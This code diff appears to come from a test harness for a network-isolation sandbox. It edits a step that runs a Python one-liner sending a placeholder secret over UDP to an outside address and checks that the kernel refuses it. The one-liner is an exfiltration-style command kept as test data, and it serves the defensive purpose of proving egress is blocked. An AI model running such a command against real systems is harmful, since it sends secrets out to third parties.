@@ -80,8 +80,8 @@ class Steps:
         self._terminal.heading("A UDP packet", "No proxy setting is involved: what is not redirected TCP or DNS is "
                                "refused by the kernel.")
         frames = self._pod.outside.frames.mark()
-        done = self._workload("python3", "-c", "import socket; socket.socket(socket.AF_INET, socket.SOCK_DGRAM)"
-                              f".sendto(b'{SECRET}', ('{OTHER4}', 9999))")
+        done = self._workload("python3", "-c", "import socket as s; "
+                              f's.socket(s.AF_INET, s.SOCK_DGRAM).sendto(b"{SECRET}", ("{OTHER4}", 9999))')
         self._terminal.promise("the sender is told at once", "PermissionError" in done.stderr, done.stderr)
         self._nothing_left(frames)
 
